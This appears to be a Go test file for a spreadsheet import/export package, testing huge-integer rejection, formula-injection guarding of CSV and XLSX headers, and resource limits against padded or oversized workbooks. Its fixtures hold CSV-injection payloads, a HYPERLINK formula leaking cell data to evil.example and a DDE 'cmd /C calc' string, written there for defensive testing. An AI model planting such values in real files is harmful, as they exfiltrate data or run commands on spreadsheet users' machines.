package exchange

import (
	"archive/zip"
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"reflect"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/rubric-dev/rubric/formulas"
	"github.com/rubric-dev/rubric/i18n"
)

// TestIssue11HugeIntegers: 2^53 + 1 is refused as written, in CSV and in XLSX (where the cell
// holds the number, not a text), instead of being stored as 2^53; a 16-digit whole number
// below 2^53 is kept exactly, not read at 15 digits.
func TestIssue11HugeIntegers(t *testing.T) {
	fx := mustMini(t)
	const msg = "9007199254740993 is too large: numbers are exact up to ±9007199254740991"
	t.Run("ErrCSV", func(t *testing.T) {
		got, err := ReadValues([]byte("unit,target\na,9007199254740993\n"), "", "", fx.scheme, fx.units)
		checkProblems(t, got, err, "csv", []Problem{{Row: 2, Column: "B", Metric: "target", Unit: "a", Value: "9007199254740993", Message: msg}})
	})
	t.Run("ErrCSVThousands", func(t *testing.T) {
		got, err := ReadValues([]byte("unit,target\na,\"9,007,199,254,740,993\"\n"), "", "", fx.scheme, fx.units)
		checkProblems(t, got, err, "csv", []Problem{{Row: 2, Column: "B", Metric: "target", Unit: "a", Value: "9,007,199,254,740,993", Message: msg}})
	})
	t.Run("ErrXLSX", func(t *testing.T) {
		data := mustWorkbook(t, "Sheet1", [][]any{{"unit", "target"}, {"a", int64(9007199254740993)}})
		got, err := ReadValues(data, "x.xlsx", "", fx.scheme, fx.units)
		checkProblems(t, got, err, "xlsx", []Problem{{Row: 2, Column: "B", Metric: "target", Unit: "a", Value: "9007199254740993", Message: msg}})
	})
	t.Run("OKSixteenDigits", func(t *testing.T) {
		got, err := ReadValues([]byte("unit,target\na,1234567890123456\n"), "", "", fx.scheme, fx.units)
		if err != nil {
			t.Fatal(err)
		}
		if v := got["a"]["target"]; v != 1234567890123456.0 {
			t.Errorf("target = %v, want 1234567890123456", v)
		}
	})
}

// mustHostileMini is the mini scheme with titles a spreadsheet would run as formulas: an item,
// a metric, an output and a unit.
func mustHostileMini(tb testing.TB) *fixture {
	tb.Helper()
	text, err := os.ReadFile("testdata/mini.json")
	if err != nil {
		tb.Fatal(err)
	}
	var doc struct {
		Scheme formulas.Scheme `json:"scheme"`
		Rows   []formulas.Row  `json:"rows"`
	}
	if err := json.Unmarshal(text, &doc); err != nil {
		tb.Fatal(err)
	}
	doc.Scheme.Items[0].Title = `=HYPERLINK("http://evil.example/?"&A1,"点此")`
	doc.Scheme.Metrics[0].Title = `@SUM(1+1)*cmd|' /C calc'!A0`
	doc.Scheme.Metrics[1].Title = "  -2+3"
	doc.Scheme.Outputs[0].Title = "＝1+1"
	doc.Rows[0].Unit.Name = "\t=1+1"
	p, _, err := formulas.Compile(&doc.Scheme)
	if err != nil {
		tb.Fatal(err)
	}
	fx := &fixture{scheme: p.Scheme(), program: p, rows: doc.Rows}
	for _, r := range doc.Rows {
		fx.units = append(fx.units, r.Unit)
	}
	fx.results = p.Evaluate(doc.Rows).Results()
	return fx
}

// checkCSVGuarded fails for any field of a CSV file a spreadsheet would run as a formula.
func checkCSVGuarded(t *testing.T, data []byte) {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte(bom)))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, rec := range records {
		for j, field := range rec {
			if field == "" || field[0] == '\'' {
				continue
			}
			first, _ := utf8.DecodeRuneInString(strings.TrimLeft(field, " \u3000"))
			if strings.ContainsRune("\t\r\n", rune(field[0])) || strings.ContainsRune(formulaStarts, first) {
				if _, err := strconv.ParseFloat(field, 64); err == nil && i > 0 {
					continue // a negative number is a number
				}
				t.Errorf("row %d column %d: %q would run as a formula", i+1, j+1, field)
			}
		}
	}
}

// ownFormula is a formula the results workbook writes itself: the totals and averages rows.
var ownFormula = regexp.MustCompile(`^(SUM|AVERAGE)\([A-Z]+[0-9]+:[A-Z]+[0-9]+\)$|^AVERAGEIFS\([A-Z]+[0-9]+:[A-Z]+[0-9]+,\$[A-Z]+\$[0-9]+:\$[A-Z]+\$[0-9]+,"<>"\)$`)

// TestIssue11HeaderInjection: titles (item, metric, output) in the header rows of the results
// CSV and of the CSV template are guarded like data cells, and the guarded template reads back;
// in the workbooks every cell is a value, none a formula.
func TestIssue11HeaderInjection(t *testing.T) {
	fx := mustHostileMini(t)
	t.Run("OKResultsCSV", func(t *testing.T) {
		var b bytes.Buffer
		if err := WriteCSV(&b, fx.program, fx.results, CSVOptions{}); err != nil {
			t.Fatal(err)
		}
		checkCSVGuarded(t, b.Bytes())
		if !strings.Contains(b.String(), `'=HYPERLINK(`) || !strings.Contains(b.String(), "'＝1+1") {
			t.Errorf("titles not guarded:\n%s", b.String())
		}
	})
	t.Run("OKTemplateCSV", func(t *testing.T) {
		var b bytes.Buffer
		if err := WriteTemplateCSV(&b, fx.scheme, fx.units, map[string]map[string]any{"a": {"target": 7.0}}, i18n.ZH); err != nil {
			t.Fatal(err)
		}
		checkCSVGuarded(t, b.Bytes())
		// Read back without the row of codes: the guarded titles still name their metrics.
		lines := strings.SplitN(b.String(), "\r\n", 3)
		got, err := ReadValues([]byte(lines[0]+"\r\n"+lines[2]), "t.csv", "", fx.scheme, fx.units)
		if err != nil {
			t.Fatal(err)
		}
		if got["a"]["target"] != 7.0 {
			t.Errorf("read back %v", got)
		}
	})
	for _, tt := range []struct {
		name  string
		write func(w *bytes.Buffer) error
	}{
		{"OKResultsXLSX", func(w *bytes.Buffer) error {
			return WriteXLSX(w, fx.program, fx.results, Meta{Revision: 1, Generated: generated})
		}},
		{"OKTemplateXLSX", func(w *bytes.Buffer) error {
			return WriteTemplateXLSX(w, fx.scheme, fx.units, nil, Meta{Revision: 1, Generated: generated})
		}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := tt.write(&b); err != nil {
				t.Fatal(err)
			}
			f := mustOpen(t, b.Bytes())
			seen := false
			for _, sheet := range f.GetSheetList() {
				rows, err := f.GetRows(sheet)
				if err != nil {
					t.Fatal(err)
				}
				for i, row := range rows {
					for j, v := range row {
						ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
						formula, err := f.GetCellFormula(sheet, ref)
						if err != nil || (formula != "" && !ownFormula.MatchString(formula)) {
							t.Errorf("%s!%s holds the formula %q (%v)", sheet, ref, formula, err)
						}
						seen = seen || strings.HasPrefix(v, "@SUM(1+1)") || strings.HasPrefix(v, "=HYPERLINK")
					}
				}
			}
			if !seen {
				t.Errorf("the hostile title is in no cell")
			}
		})
	}
}

// xlsxOf writes a minimal workbook of one sheet, 填报, whose sheetData is what rows writes.
func xlsxOf(tb testing.TB, rows func(w io.Writer)) []byte {
	tb.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	part := func(name, text string) {
		w, err := zw.Create(name)
		if err != nil {
			tb.Fatal(err)
		}
		io.WriteString(w, text)
	}
	part("[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`)
	part("_rels/.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`)
	part("xl/workbook.xml", `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="填报" sheetId="1" r:id="rId1"/></sheets></workbook>`)
	part("xl/_rels/workbook.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`)
	w, err := zw.Create("xl/worksheets/sheet1.xml")
	if err != nil {
		tb.Fatal(err)
	}
	bw := bufio.NewWriter(w)
	io.WriteString(bw, `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`)
	rows(bw)
	io.WriteString(bw, `</sheetData></worksheet>`)
	bw.Flush()
	if err := zw.Close(); err != nil {
		tb.Fatal(err)
	}
	return b.Bytes()
}

// xfdPadded is issue 11's workbook: a header, then rows rows each holding one cell, at column
// XFD (16,384), which excelize pads to 16,384 cells a row.
func xfdPadded(tb testing.TB, rows int) []byte {
	return xlsxOf(tb, func(w io.Writer) {
		io.WriteString(w, `<row r="1"><c r="A1" t="inlineStr"><is><t>unit</t></is></c><c r="B1" t="inlineStr"><is><t>target</t></is></c></row>`)
		for r := 2; r <= rows+1; r++ {
			fmt.Fprintf(w, `<row r="%d"><c r="XFD%d"><v>1</v></c></row>`, r, r)
		}
	})
}

// TestIssue11PaddedXLSX: the workbook of issue 11 (one cell at XFD in each of 100,000 rows,
// 500 KB zipped; issue 11's had 5 million) is refused after the rows a filled-in template can have, having handed the
// importer only the cells within the header (2 a row), not 16,384 a row; the XFD value is
// reported once.
func TestIssue11PaddedXLSX(t *testing.T) {
	fx := mustMini(t)
	data := xfdPadded(t, 100000)
	t.Logf("the workbook: %d bytes", len(data))
	_, work, err := readXLSXWork(context.Background(), data, fx.scheme, fx.units)
	var ie *ImportError
	if !errors.As(err, &ie) {
		t.Fatalf("err = %v", err)
	}
	rowsRead := len(fx.units) + MaxProblems + 1
	want := []Problem{
		{Row: 2, Column: "XFD", Value: "1", Message: "a value in a column without a header: the column matches no metric"},
		{Row: rowsRead + 1, Message: fmt.Sprintf("more than %d rows of values: the scheme has %d units; the rest of the sheet was not read", rowsRead-1, len(fx.units))},
	}
	if !reflect.DeepEqual(ie.Problems, want) {
		t.Errorf("problems %+v\nwant %+v", ie.Problems, want)
	}
	// The header's two cells and nothing for each row read: excelize's rows would have been
	// 16,384 cells each.
	if work > 2 {
		t.Errorf("%d cells handed to the importer, want 2", work)
	}
}

// TestIssue11ImportCancelled: an import whose context is cancelled stops and says so.
func TestIssue11ImportCancelled(t *testing.T) {
	fx := mustMini(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	for _, data := range [][]byte{xfdPadded(t, 10), []byte("unit,target\na,1\n")} {
		if _, err := ReadValuesContext(ctx, data, "", "", fx.scheme, fx.units); !errors.Is(err, context.Canceled) {
			t.Errorf("err = %v, want context.Canceled", err)
		}
	}
}

// BenchmarkIssue11PaddedXLSX reads issue 11's workbook (a cell at XFD in each row; 2,000 rows,
// so that excelize's padding finishes) with rubric's reader and, as the baseline, with
// excelize's row iterator, which the import used before.
func BenchmarkIssue11PaddedXLSX(b *testing.B) {
	fx := mustMini(b)
	data := xfdPadded(b, 2000)
	b.Run("rubric", func(b *testing.B) {
		for b.Loop() {
			if _, _, err := readXLSXWork(context.Background(), data, fx.scheme, fx.units); err == nil {
				b.Fatal("no problem")
			}
		}
	})
	b.Run("excelize", func(b *testing.B) {
		for b.Loop() {
			f, err := excelize.OpenReader(bytes.NewReader(data), excelize.Options{RawCellValue: true})
			if err != nil {
				b.Fatal(err)
			}
			rows, err := f.Rows("填报")
			if err != nil {
				b.Fatal(err)
			}
			for rows.Next() {
				if _, err := rows.Columns(excelize.Options{RawCellValue: true}); err != nil {
					b.Fatal(err)
				}
			}
			rows.Close()
			f.Close()
		}
	})
}

// TestIssue11EmptyCells: a sheet of millions of empty cells (no value, nothing padded) is
// refused once it holds more than the cell budget, after reading that many cells.
func TestIssue11EmptyCells(t *testing.T) {
	fx := mustMini(t)
	data := xlsxOf(t, func(w io.Writer) {
		io.WriteString(w, `<row r="1"><c r="A1" t="inlineStr"><is><t>unit</t></is></c><c r="B1" t="inlineStr"><is><t>target</t></is></c></row>`)
		empty := strings.Repeat(`<c t="inlineStr"><is><t></t></is></c>`, 100)
		for r := 2; r <= 5001; r++ {
			fmt.Fprintf(w, `<row r="%d">%s</row>`, r, empty)
		}
	})
	_, _, err := readXLSXWork(context.Background(), data, fx.scheme, fx.units)
	var ie *ImportError
	if !errors.As(err, &ie) || len(ie.Problems) != 1 ||
		ie.Problems[0].Message != "not a readable XLSX workbook: sheet 填报: the sheet holds more than 200000 cells, more than a filled-in template of the scheme can" {
		t.Errorf("err = %v", err)
	}
}
